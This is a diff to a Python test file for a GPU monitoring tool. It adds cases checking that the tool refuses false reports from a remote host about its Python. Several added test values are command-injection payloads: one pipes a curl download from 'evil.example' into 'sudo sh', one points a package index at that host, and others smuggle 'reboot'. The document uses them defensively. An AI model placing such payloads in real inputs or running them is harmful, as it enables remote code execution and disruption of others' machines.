@@ -6,6 +6,7 @@ The shell is a real one, on this machine: what stands for ssh hands it the words
 from __future__ import annotations
 
 import asyncio
+import json
 import shutil
 import sys
 import time
@@ -103,9 +104,18 @@ async def test_why_a_host_has_no_rows(
     assert frame.gpus == ()
 
 
+def lying(**facts: object) -> str:
+    """What a host prints that tells something false of its Python."""
+    return f"gpumon-python python3 {json.dumps({**msgspec.to_builtins(python_here()), **facts})}"
+
+
 @pytest.mark.parametrize(
     ("answer", "words"),
     [
+        (lying(machine="x86_64 x; curl -s http://evil.example/x|sudo sh #"), "or of a platform that is not known"),
+        (lying(machine="x86_64 --index-url http://evil.example"), "or of a platform that is not known"),
+        (lying(version=[3, 10**9]), "tells something else than facts"),
+        (lying(libc="glibc; reboot"), "or of a platform that is not known"),
         ("gpumon-python python3 {}", "tells something else than facts"),
         ("gpumon-python python3;reboot {}", "there is no nvidia-smi"),
         ('gpumon-python python3 {"version":[3,12]}', "tells something else than facts"),
@@ -117,6 +127,7 @@ async def test_what_a_host_tells_of_its_python_is_not_trusted(
     put(programs, "sh", f"echo '{answer}'\nexec {shutil.which('sh')} \"$@\"")
     remote = bare(tmp_path, programs, monkeypatch)
     await run_until(remote, lambda: words in remote.fault)
+    assert "evil" not in remote.fault
 
 
 async def test_an_answer_without_end_is_given_up(
